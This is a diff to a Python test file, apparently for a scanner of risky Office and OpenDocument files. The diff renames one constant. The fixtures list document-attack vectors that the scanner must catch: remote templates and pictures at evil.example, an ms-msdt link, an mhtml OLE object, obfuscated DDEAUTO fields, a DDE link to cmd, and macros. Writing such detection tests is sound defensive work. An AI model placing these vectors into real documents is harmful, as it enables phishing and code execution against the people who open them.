@@ -36,18 +36,18 @@ def odt(inner, **more):
     return {**ODT, "content.xml": f'<o:d {names} xmlns:xlink="http://www.w3.org/1999/xlink">{inner}</o:d>', **more}
 
 
-MACROS, LOADS, CARRIES = "macros", "loads something from elsewhere", "another file or a program"
+MACROS, LOADS, HAS_A_FILE = "macros", "loads something from elsewhere", "another file or a program"
 DOCUMENTS = {
     "a template elsewhere": ({**DOCX, "word/_rels/settings.xml.rels": rels("attachedTemplate", "http://evil.example/x.dotm")}, LOADS),
     "a template on a share": ({**DOCX, "word/_rels/settings.xml.rels": rels("attachedTemplate", "\\\\evil\\x.dotm")}, LOADS),
     "a picture elsewhere": ({**DOCX, "word/_rels/document.xml.rels": rels("image", "https://evil.example/x.png")}, LOADS),
     "a frame elsewhere": ({**DOCX, "word/_rels/webSettings.xml.rels": rels("frame", "https://evil.example/")}, LOADS),
-    "an object elsewhere": ({**DOCX, "word/_rels/document.xml.rels": rels("oleObject", "mhtml:http://evil.example!x")}, CARRIES),
+    "an object elsewhere": ({**DOCX, "word/_rels/document.xml.rels": rels("oleObject", "mhtml:http://evil.example!x")}, HAS_A_FILE),
     "a link that is a program": ({**DOCX, "word/_rels/document.xml.rels": rels("hyperlink", "ms-msdt:/id x")}, LOADS),
-    "an object inside": ({**DOCX, "word/embeddings/oleObject1.bin": "x"}, CARRIES),
-    "an object's relationship": ({**DOCX, "word/_rels/document.xml.rels": rels("oleObject", "embeddings/x.dat", "")}, CARRIES),
-    "a page inside": ({**DOCX, "word/_rels/document.xml.rels": rels("aFChunk", "x.dat", "")}, CARRIES),
-    "a control": ({**DOCX, "word/activeX/activeX1.xml": "<x/>"}, CARRIES),
+    "an object inside": ({**DOCX, "word/embeddings/oleObject1.bin": "x"}, HAS_A_FILE),
+    "an object's relationship": ({**DOCX, "word/_rels/document.xml.rels": rels("oleObject", "embeddings/x.dat", "")}, HAS_A_FILE),
+    "a page inside": ({**DOCX, "word/_rels/document.xml.rels": rels("aFChunk", "x.dat", "")}, HAS_A_FILE),
+    "a control": ({**DOCX, "word/activeX/activeX1.xml": "<x/>"}, HAS_A_FILE),
     "macros": ({**DOCX, "word/vbaProject.bin": "x"}, MACROS),
     "macros by their type": ({**DOCX, "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}, MACROS),
     "macros by relationship": ({**DOCX, "word/_rels/document.xml.rels": rels("vbaProject", "x.dat", "")}, MACROS),
@@ -55,15 +55,15 @@ DOCUMENTS = {
     "such a field in pieces": ({**DOCX, "word/header1.xml": words(BEGIN + run(" DD") + run("EAU") + run("TO c:\\\\x ") + END)}, LOADS),
     "such a field in numbers": ({**DOCX, "word/document.xml": words(BEGIN + run(" QUOTE 68 68 69 ") + END)}, LOADS),
     "a simple field": ({**DOCX, "word/document.xml": words('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x&quot; "/>')}, LOADS),
-    "a document type": ({**DOCX, "word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&amp;</x>'}, CARRIES),
+    "a document type": ({**DOCX, "word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&amp;</x>'}, HAS_A_FILE),
     "a table's program": ({**XLSX, "xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'}, LOADS),
     "a table's other table": ({**XLSX, "xl/externalLinks/_rels/externalLink1.xml.rels": rels("externalLinkPath", "file:///c:/x.xlsx")}, LOADS),
     "a table's database": ({**XLSX, "xl/connections.xml": "<connections/>"}, LOADS),
     "a bad table inside": ({**DOCX, "word/embeddings/x.xlsx": zipped({**XLSX, "xl/vbaProject.bin": "x"})}, MACROS),
-    "a table in a table in a document": ({**DOCX, "word/embeddings/x.xlsx": zipped({**XLSX, "xl/embeddings/y.xlsx": zipped(XLSX)})}, CARRIES),
+    "a table in a table in a document": ({**DOCX, "word/embeddings/x.xlsx": zipped({**XLSX, "xl/embeddings/y.xlsx": zipped(XLSX)})}, HAS_A_FILE),
     "an open document's picture elsewhere": (odt('<draw:image xlink:href="https://evil.example/x.png"/>'), LOADS),
     "an open document's section elsewhere": (odt('<text:section-source xlink:href="//evil.example/x.odt"/>'), LOADS),
-    "an open document's object": (odt('<draw:object-ole xlink:href="./Object 1"/>'), CARRIES),
+    "an open document's object": (odt('<draw:object-ole xlink:href="./Object 1"/>'), HAS_A_FILE),
     "an open document's program": (odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), MACROS),
     "an open document's macros": (odt("", **{"Basic/Standard/Module1.xml": "<x/>"}), MACROS),
     "an open document's data": (odt("<text:dde-connection-decl/>"), LOADS),
